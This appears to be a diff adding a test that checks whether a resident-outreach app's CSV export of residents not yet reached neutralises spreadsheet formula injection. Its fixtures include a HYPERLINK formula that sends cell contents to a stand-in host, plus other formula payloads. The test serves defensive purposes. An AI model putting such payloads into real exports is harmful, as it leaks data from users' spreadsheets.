@@ -147,3 +147,44 @@ def test_the_unreached_list_of_a_correction_not_yet_sent(app, county):
     plan(app, correction)
     people, _ = unreached(app, correction)
     assert names(people) == ["李娜"] and people[0]["tried"][0]["at"] is not None
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://x/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(1,1)"]
+
+
+def test_the_unreached_csv_is_inert_in_spreadsheets(app, county, api):
+    """Imported names that a spreadsheet would run as formulas are written as text."""
+    import csv
+    import io
+
+    from audiences.residents import ROSTER_COLUMNS
+
+    lines = [",".join(ROSTER_COLUMNS)] + [
+        '"' + name.replace('"', '""') + f'",,o_formula{i},{VILLAGE_A},1990,0,0,1,zh,,0'
+        for i, name in enumerate(FORMULA_NAMES)]
+    with app.extensions["engine"].begin() as conn:
+        assert roster.import_residents(conn, ("\n".join(lines) + "\n").encode(), "test") == \
+            len(FORMULA_NAMES)
+    announcement_id = planned(app, channels=["sms"], areas=[VILLAGE_A])
+    people, _ = unreached(app, announcement_id)
+    assert set(FORMULA_NAMES) <= set(names(people))  # stored as given; only the export changes
+    text = reports.unreached_csv(people, ["name", "phone", "area_code", "tried"])
+    assert text.startswith("\ufeff")
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert rows[0] == ["name", "phone", "area_code", "tried"]
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(reports.FORMULA_STARTS), row
+    by_name = {row[0]: row for row in rows[1:]}
+    assert by_name["'" + FORMULA_NAMES[0]][1] == ""
+    assert {"'" + name for name in FORMULA_NAMES} <= set(by_name)
+    # E.164 phones start with +: written as text too, the number itself unchanged.
+    assert by_name["李娜"][1] == "'" + SMS_ONLY
+    exported = api("approver").get(f"/api/v1/announcements/{announcement_id}/unreached",
+                                   headers={"Accept": "text/csv"}).get_data(as_text=True)
+    assert exported == text  # the API writes with the same writer
+    with_areas = reports.unreached_csv(people, ["n", "p", "c", "a", "t"], {VILLAGE_A: "=1+1"})
+    assert reports.inert_cell("\tcmd") == "'\tcmd" and reports.inert_cell("\rcmd") == "'\rcmd"
+    assert reports.inert_cell(None) == "" and reports.inert_cell("张伟") == "张伟"
+    assert all(row[3] == "'=1+1" for row in csv.reader(io.StringIO(with_areas.lstrip("\ufeff")))
+               if row[0] != "n")
